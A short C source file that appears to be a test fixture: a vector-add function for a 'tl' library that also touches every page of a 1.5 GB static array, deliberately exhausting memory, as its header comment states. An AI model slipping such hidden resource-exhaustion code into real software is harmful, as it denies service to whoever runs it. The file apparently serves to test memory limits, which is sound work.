/* Takes memory until there is none. */
#include "tl/vector.h"


static volatile char large[3u << 29];

tl_status tl_vector_add(tl_ctx *ctx, tl_real *y, const tl_real *a, const tl_real *b, size_t n) {
    (void)ctx;
    for (size_t i = 0; i < sizeof large; i += 4096) large[i] = 1;
    for (size_t i = 0; i < n; i++) y[i] = a[i] + b[i];
    return TL_OK;
}
